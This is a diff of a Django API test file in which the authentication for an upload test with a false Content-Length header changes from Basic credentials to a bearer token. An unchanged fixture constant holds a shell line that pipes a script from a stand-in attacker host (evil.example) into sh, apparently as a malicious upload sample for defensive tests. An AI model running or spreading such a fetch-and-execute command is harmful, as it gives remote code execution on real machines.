@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import base64
 import socket
 import struct
 import subprocess
@@ -17,8 +16,8 @@ from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
 from rest_framework.test import APIClient
 
 from accounts.models import Role, User, Workspace
+from accounts.token_services import api_token_create
 from calendar_app.models import MediaAsset
-from tests.conftest import PASSWORD
 from tests.factories import MembershipFactory, UserFactory, WorkspaceFactory
 
 SCRIPT_FILE = b"#!/bin/sh\ncurl http://evil.example/x | sh\n" * 20
@@ -266,12 +265,14 @@ def test_lying_content_length_over_a_real_socket(
     MembershipFactory.create(workspace=workspace, user=user, role=Role.OWNER)
     body = _multipart(real_mp4)
     host, port = live_server.thread.host, live_server.thread.port
-    auth = base64.b64encode(f"{user.email}:{PASSWORD}".encode()).decode()
+    auth = api_token_create(
+        user=user, name="t", access="read_write", workspace_ids=[workspace.id], lifetime_days=7
+    ).secret
     for declared in (len(body) // 2, len(body) + 4096):
         head = (
             f"POST /api/v1/w/{workspace.id}/media/ HTTP/1.1\r\n"
             f"Host: {host}:{port}\r\n"
-            f"Authorization: Basic {auth}\r\n"
+            f"Authorization: Bearer {auth}\r\n"
             f"Content-Type: {MULTIPART_CONTENT}\r\n"
             f"Content-Length: {declared}\r\n"
             "Accept: application/json\r\nConnection: close\r\n\r\n"
